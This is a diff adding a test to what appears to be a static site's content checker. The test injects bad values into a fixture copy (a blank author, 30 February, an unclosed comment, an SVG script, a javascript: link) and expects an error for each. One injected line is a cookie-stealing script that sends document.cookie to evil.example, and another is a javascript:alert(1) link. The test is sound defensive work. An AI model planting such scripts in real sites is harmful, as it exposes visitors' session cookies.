@@ -162,3 +162,24 @@ describe('an article dated after the build\'s day is scheduled', () => {
     expect(dist('blog/feed.xml')).toContain('/blog/blockchain-development');
   }, 180_000);
 });
+
+describe('the examples of issue 24 that the content check itself refuses, on the fixture site', () => {
+  let paths: Paths;
+  let problems: Problem[];
+  beforeAll(() => {
+    paths = fixtureCopy();
+    edit(paths, 'blog/ai-healthcare-solutions.md', (t) => t.replace(/^author: .*$/m, 'author: "   "').replace(/^date: .*$/m, 'date: 2025-02-30').replace(/\n## /, '\n<!-- check these figures with the clinic\n\n## '));
+    edit(paths, 'images/logo.svg', (t) => t.replace(/(<svg[^>]*>)/, '$1\n<script>document.location="https://evil.example/?"+document.cookie</script>'));
+    edit(paths, 'site.yaml', (t) => t.replace('- { label: Blog, href: /blog }', '- { label: Blog, href: "javascript:alert(1)" }'));
+    problems = checkContent(paths).problems;
+  });
+
+  test('each is an error at its content line, saying what a visitor would have got', () => {
+    const byCode = (code: string) => problems.filter((p) => p.code === code).map(shown);
+    expect(byCode('value-blank')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '"   "')}  author: this text is only spaces, so the page would show nothing here [value-blank]`]);
+    expect(byCode('date-impossible')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '2025-02-30')}  date: 30 February 2025 does not exist [date-impossible]`]);
+    expect(byCode('markdown-comment-unclosed')).toEqual([`${at(paths, 'blog/ai-healthcare-solutions.md', '<!-- check')}  body: a note starts here with "<!--" but is never closed with "-->" [markdown-comment-unclosed]`]);
+    expect(byCode('svg-unsafe')).toEqual([`${at(paths, 'images/logo.svg', '<script>')}  the vector picture "/images/logo.svg" contains a <script> element, which could run code on the site [svg-unsafe]`]);
+    expect(byCode('link-unsafe')).toEqual([`${at(paths, 'site.yaml', '"javascript:')}  nav[2].href: a "javascript:" link runs code or opens embedded data instead of a page, so it is not allowed [link-unsafe]`]);
+  });
+});
